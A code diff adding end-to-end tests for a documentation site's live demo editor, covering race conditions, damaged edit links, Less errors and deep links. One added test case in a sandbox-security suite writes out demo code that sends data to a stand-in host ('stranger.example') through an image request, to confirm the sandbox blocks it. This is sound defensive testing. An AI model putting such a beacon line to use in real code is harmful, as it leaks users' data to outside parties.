@@ -1,4 +1,5 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { writeEditHash } from '../../src/runtime/live/edit-link.ts';
 import { createSite, type TestSite } from '../helpers/build-site.ts';
 import { editDemo, liveCard, longestGap } from '../helpers/live.ts';
 import { type OpenSite, openSite } from '../helpers/pages.ts';
@@ -21,6 +22,7 @@ beforeAll(async () => {
     'docs/index.md':
       '# Home\n\n<code src="../demos/greeting.tsx" title="Greeting"></code>\n\n<code src="../demos/plain.tsx" title="Plain"></code>\n',
     'docs/other.md': '# Other\n\nText.\n',
+    'docs/far.md': `# Far\n\n${'A paragraph that takes room.\n\n'.repeat(120)}<code src="../demos/plain.tsx"></code>\n`,
     'demos/greeting.tsx': greeting,
     'demos/greeting.less': "@import './colours';\n.greeting { color: @ink; }\n",
     'demos/colours.less': '@ink: rgb(1, 2, 3);\n',
@@ -260,7 +262,89 @@ describe('live editing', () => {
   });
 });
 
+describe('in a hurry', () => {
+  it('a double click opens one editor', async () => {
+    const { page } = await site.open('/');
+    await page.locator(`${card('plain')}[data-hydrated]`).waitFor();
+    await page.locator(`${card('plain')} summary`).click();
+    await page.locator(card('plain')).getByRole('button', { name: 'Edit code' }).dblclick();
+    const live = liveCard(page.locator(card('plain')));
+    await live.card.locator('.live-editor').first().waitFor();
+    await page.waitForTimeout(300);
+    expect(await live.card.locator('.live-editor').count()).toBe(1);
+    await page.context().close();
+  });
+
+  it('a reset while the frame is being made leaves none', async () => {
+    const { page } = await site.open('/', {
+      before: (opened) => opened.route('**/compiler-*.js', async (route) => setTimeout(() => route.continue(), 800)),
+    });
+    const live = await editDemo(page, card('plain'));
+    await live.write(plainCode('  return <p>too late</p>;'));
+    await live.button('Reset').click();
+    await page.waitForTimeout(1500);
+    expect(await page.locator('.live-frame').count()).toBe(0);
+    await page.context().close();
+  });
+
+  it('a result that comes late does not take the place of a newer one', async () => {
+    const { page } = await site.open('/');
+    const live = await editDemo(page, card('plain'));
+    await live.write(
+      "import { use } from 'react';\nconst never = new Promise(() => {});\nexport default () => <p>{use(never)}</p>;\n",
+    );
+    await page.waitForTimeout(600);
+    await live.write(plainCode('  return <p>newer</p>;'));
+    await (await live.frame()).getByText('newer').waitFor();
+    await page.waitForTimeout(1500);
+    expect(await (await live.frame()).getByText('newer').isVisible()).toBe(true);
+    await page.context().close();
+  });
+
+  it('a damaged address does not take the way back', async () => {
+    const { page } = await site.open('/');
+    const live = await editDemo(page, card('plain'));
+    await live.write(plainCode('  return <p>mine</p>;'));
+    await (await live.frame()).getByText('mine').waitFor();
+    await page.evaluate(
+      (id) => {
+        location.hash = `#edit=${id}.qqqq`;
+      },
+      await live.card.getAttribute('data-demo'),
+    );
+    expect(await live.failure()).toMatch(/address is damaged/);
+    await live.button('Reset').click();
+    await live.card.locator('[data-demo-root]').getByText('plain text').waitFor();
+    expect(await page.locator('.live-frame').count()).toBe(0);
+    await page.context().close();
+  });
+
+  it('an export waits for what Less makes of an edit', async () => {
+    const { page } = await site.open('/');
+    const live = await editDemo(page, card('greeting'));
+    await live.write('.greeting { color: @nothing }', 2);
+    expect(await live.failure()).toMatch(/@nothing is undefined/);
+    await live.button('Open in CodeSandbox').click();
+    await expect.poll(() => live.failure()).toMatch(/greeting\.less has not been compiled/);
+    await page.context().close();
+  });
+});
+
 describe('a link to what was edited', () => {
+  it('opens a demo far down the page, and another link to it starts from what was published', async () => {
+    const first = await writeEditHash('docs-far-demo-plain', { 'index.tsx': plain.replace('plain text', 'first') });
+    const second = await writeEditHash('docs-far-demo-plain', { 'index.tsx': plain.replace('plain text', 'second') });
+    const { page } = await site.open(`/far${first}`);
+    const live = liveCard(page.locator(card('plain')));
+    await (await live.frame()).getByText('first').waitFor();
+    expect(await live.card.evaluate((element) => element.getBoundingClientRect().top < innerHeight)).toBe(true);
+    await page.evaluate((hash) => {
+      location.hash = hash;
+    }, second);
+    await (await live.frame()).getByText('second').waitFor();
+    await page.context().close();
+  });
+
   it('restores every edited file, marked as edited, and has a way back', async () => {
     const { page } = await site.open('/', { permissions: ['clipboard-read', 'clipboard-write'] });
     const live = await editDemo(page, card('greeting'));
@@ -324,6 +408,11 @@ describe('code that means harm', () => {
       "fetch('/')",
       plainCode("  fetch('/');\n  return <p>x</p>;"),
       /connect-src is closed|Failed to fetch|NetworkError/,
+    ],
+    [
+      'a picture that tells',
+      plainCode("  new Image().src = 'https://stranger.example/?stolen';\n  return <p>x</p>;"),
+      /cannot reach https:\/\/stranger\.example.*img-src is closed/,
     ],
     [
       'leaving for another page',
